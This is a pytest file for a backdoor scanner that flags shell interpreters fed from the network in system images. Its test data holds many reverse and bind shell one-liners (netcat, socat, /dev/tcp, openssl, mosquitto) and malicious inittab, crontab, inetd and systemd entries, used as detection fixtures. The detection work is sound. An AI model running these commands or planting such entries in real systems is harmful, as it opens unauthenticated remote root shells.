"""Interpreters that read from the network without a login."""

import pytest
from building import findings_of, image_of
from hypothesis import given, settings, strategies as st

from assay.checks.backdoors import interpreter_from_network
from assay.checks.backdoors.interpreter_from_network import _FORMS, _parts_of, fed_interpreters

PIECES = (
    "nc", "ncat", "netcat", "nc.traditional", "busybox nc", "mosquitto_sub", "telnet h",
    "openssl s_client", "socat", "SOCAT", "tcp:", "TCP4-LISTEN:1,", "exec:", "System:", "tcpsvd",
    "udpsvd 0 1", "/dev/tcp/", "/dev/udp/", "/bin/sh", "sh", "lua", " -e ", " -c", " ", "|", ">&",
    "<", "é", "x", "\n", "while read a; do eval $a; done\n",
)  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        "nc -l -p 4444 | sh\n",
        "nc -lp 4444 -e /bin/sh\n",
        "while :; do nc -l -p 1 < f | /bin/ash > f; done\n",
        "socat TCP-LISTEN:99,fork EXEC:/bin/sh\n",
        "socat exec:'bash -li',pty tcp:1.2.3.4:99\n",
        "bash -i >& /dev/tcp/1.2.3.4/9 0>&1\n",
        "tcpsvd 0 99 sh -i\n",
        "mosquitto_sub -h broker -t 'dev/#' | sh\n",
        "openssl s_client -quiet -connect h:443 | /bin/sh 2>&1\n",
        'nc -l -p 9 | while read -r line; do eval "$line"; done\n',
        "nc -l -p 9 | while read line\ndo\n $line > /tmp/out\ndone\n",
        "mosquitto_sub -t x | while read c; do sh -c ${c}; done\n",
    ],
)
def test_fed(text):
    assert len(fed_interpreters(text)) == 1
    (finding,) = findings_of(
        interpreter_from_network, image_of({"/etc/x.sh": b"#!/bin/sh\n" + text.encode()})
    )
    assert finding.severity == "high"
    assert finding.evidence[0].offset >= 10


@pytest.mark.parametrize(
    "text",
    [
        "# nc -l -p 4 | sh\n",
        "nc -l -p 99 -e /bin/cat\n",
        "nc -z host 22 || sh /x\n",
        "nc -l -p 5 > /tmp/sh.log\n",
        "tcpsvd -E 0 21 ftpd -w\n",
        "nc -e sh-server x\n",
        "socat TCP-LISTEN:99 EXEC:/bin/login\n",
        "nc -l -p 9 | while read line; do echo $line; done\n",
        "nc -l -p 9 | while read line; do logger x; done; eval $line\n",
        "mosquitto_sub -t x | while read c; do case $c in on) led on;; esac; done\n",
    ],
)
def test_not_fed(text):
    assert not fed_interpreters(text)


@pytest.mark.parametrize(
    ("line", "count"),
    [
        (b"8022 stream tcp nowait root /bin/sh sh -i\n", 1),
        (b"8022 stream tcp nowait root /bin/sh sh /usr/bin/serve\n", 0),
        (b"telnet stream tcp nowait root /sbin/telnetd telnetd\n", 0),
        (b"#8022 stream tcp nowait root /bin/sh sh -i\n", 0),
    ],
)
def test_super_server(line, count):
    image = image_of({"/etc/inetd.conf": line})
    assert len(findings_of(interpreter_from_network, image)) == count


@pytest.mark.parametrize("piece", ["nc ", "socat tcp:exec:", "tcpsvd ", "sh </dev/", "nc -e"])
def test_hostile_text_ends(piece):
    assert not fed_interpreters((piece * 90_000)[: 256 << 10])


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("/etc/inittab", b"::respawn:/bin/nc -l -p 99 -e /bin/sh\n"),
        ("/etc/crontabs/root", b"* * * * * nc 192.0.2.7 99 | sh\n"),
        (
            "/lib/systemd/system/lab@.service",
            b"[Service]\nExecStart=-/bin/sh -i\nStandardInput=socket\n",
        ),
    ],
)
def test_tables_that_hold_commands(path, text):
    (finding,) = findings_of(interpreter_from_network, image_of({path: text}))
    assert finding.severity == "high"


@pytest.mark.parametrize(
    "text",
    [
        b"[Service]\nExecStart=/bin/sh /usr/lib/serve.sh\nStandardInput=socket\n",
        b"[Service]\nExecStart=/bin/sh -i\nStandardInput=tty\n",
    ],
)
def test_units_that_give_nothing(text):
    image = image_of({"/lib/systemd/system/a.service": text})
    assert findings_of(interpreter_from_network, image) == []


def test_hostile_loops_end():
    for piece in ("nc -l | while read a; do ", "nc |" * 3, "mosquitto_sub | while read a\n"):
        text = (piece * 60_000)[: 256 << 10]
        assert len(fed_interpreters(text)) < 60_000


@settings(deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
def test_what_a_form_takes_holds_one_of_its_parts(text):
    held = _parts_of(text.lower())
    for expression, _, parts in _FORMS:
        assert expression.search(text) is None or not held.isdisjoint(parts)
